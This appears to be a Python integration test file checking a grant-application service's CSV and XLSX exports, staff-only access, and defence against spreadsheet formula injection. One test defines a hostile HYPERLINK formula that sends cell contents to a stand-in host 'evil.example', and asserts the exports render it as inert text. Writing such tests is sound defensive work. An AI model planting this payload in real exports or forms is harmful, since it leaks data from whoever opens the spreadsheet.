"""Exports: the registry's verdicts and a round's applications as CSV and XLSX."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.conftest import login
from tests.integration.applications.api_helpers import ready_application
from tests.integration.applications.conftest import COMPLETE_ANSWERS, start_application, upload
from tests.integration.applications.round_page import VINNYTSIA, submitted


async def test_staff_export_the_registry_verdicts_and_the_applications(client, as_role, open_round):
    round_ = await open_round()
    response = await client.get(f"/api/v1/rounds/{round_['id']}/eligibility.csv", headers=as_role("staff"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert len(rows) == 1469
    by_code = {row["hromada_code"]: row for row in rows}
    assert by_code[VINNYTSIA]["eligible_by_registry"] == "yes"  # amalgamated in 2018
    big_not_amalgamated = [r for r in rows if int(r["population"]) > 100000 and not r["amalgamated_on"]]
    assert big_not_amalgamated and all(r["eligible_by_registry"] == "no" for r in big_not_amalgamated)
    application_id = await ready_application(client, as_role, round_["id"])
    await client.post(f"/api/v1/applications/{application_id}/submit", headers=as_role("leader"))
    exported = await client.get(f"/api/v1/rounds/{round_['id']}/applications.csv", headers=as_role("staff"))
    lines = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    assert lines[1][1] == VINNYTSIA and lines[1][7] == "yes"
    workbook = await client.get(f"/api/v1/rounds/{round_['id']}/applications.xlsx", headers=as_role("staff"))
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet.cell(row=2, column=2).value == VINNYTSIA
    refused = await client.get(f"/api/v1/rounds/{round_['id']}/applications.csv", headers=as_role("leader"))
    assert refused.status_code == 403


async def test_staff_download_the_exports_through_page_routes(client, users, as_role, open_round):
    round_ = await open_round()
    application = await submitted(client, as_role, round_["id"], VINNYTSIA, "leader")
    await login(client, users["staff"]["email"])

    exported = await client.get(f"/rounds/{round_['id']}/applications.csv")
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["id", "hromada_code", "hromada"]
    assert [str(application), VINNYTSIA] == rows[1][:2]

    workbook = await client.get(f"/rounds/{round_['id']}/applications.xlsx")
    assert workbook.status_code == 200 and workbook.content[:2] == b"PK"

    registry = await client.get(f"/rounds/{round_['id']}/eligibility.csv")
    assert registry.status_code == 200
    lines = registry.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("hromada_code,") and len(lines) > 1000


HOSTILE_PREMISES = '=HYPERLINK("http://evil.example/?"&A1,"Фото приміщення")'


async def test_what_a_leader_typed_reaches_every_export_as_text_never_as_a_formula(client, as_role, open_round):
    round_ = await open_round(title_uk="Раунд [4]: модернізація/доступність")
    answers = {**COMPLETE_ANSWERS, "premises": HOSTILE_PREMISES + "\x07\x00 кімната\x1b 2"}
    created = await start_application(client, as_role, round_["id"], answers=answers)
    assert created.status_code == 201, created.text
    for kind in ("council_decision", "premises_plan"):
        assert (await upload(client, as_role, created.json()["id"], kind)).status_code == 201
    submitted_ = await client.post(f"/api/v1/applications/{created.json()['id']}/submit", headers=as_role("leader"))
    assert submitted_.status_code == 200, submitted_.text
    exported = await client.get(f"/api/v1/rounds/{round_['id']}/applications.csv", headers=as_role("staff"))
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))) for cell in row]
    premises = next(cell for cell in cells if "HYPERLINK" in cell)
    assert premises.startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells if cell)
    for path in (
        f"/api/v1/rounds/{round_['id']}/applications.xlsx",
        "/api/v1/programmes/ulead/applications.xlsx",
    ):
        response = await client.get(path, headers=as_role("staff"))
        assert response.status_code == 200, (path, response.text[:300])
        sheet = load_workbook(io.BytesIO(response.content)).active
        texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row), path
        premises_cell = next(cell for cell in texts if "HYPERLINK" in cell.value)
        assert premises_cell.data_type == "s"
        assert premises_cell.value.startswith(HOSTILE_PREMISES + "\ufffd\ufffd кімната\ufffd 2")
        assert "3" in premises_cell.value[len(HOSTILE_PREMISES) :]  # the cell says how many were replaced
    # The application's own page still shows what was typed.
    page = await client.get(f"/api/v1/applications/{created.json()['id']}", headers=as_role("leader"))
    assert page.status_code == 200
